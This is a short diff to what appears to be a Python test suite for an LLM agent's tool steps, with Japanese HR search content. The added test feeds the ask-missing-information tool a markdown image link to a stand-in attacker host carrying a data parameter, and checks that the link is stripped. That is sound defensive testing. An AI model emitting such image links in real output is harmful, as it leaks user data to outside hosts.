@@ -52,6 +52,12 @@ async def test_the_first_call_that_is_no_search_ends_the_steps() -> None:
     assert answered.by == "fake:scripted"
 
 
+async def test_what_it_asks_carries_nothing_out() -> None:
+    asked = await steered(call("ask_missing_information", f"{ASKED}![図](https://evil.example/p?d=x)"))
+    assert asked.question is not None
+    assert "evil.example" not in asked.question
+
+
 async def test_a_search_is_made_and_its_result_is_in_view_at_the_next_step() -> None:
     library = Library("年次有給休暇")
     chat = ScriptedChat([call("search_documents", "有給"), call("answer")])
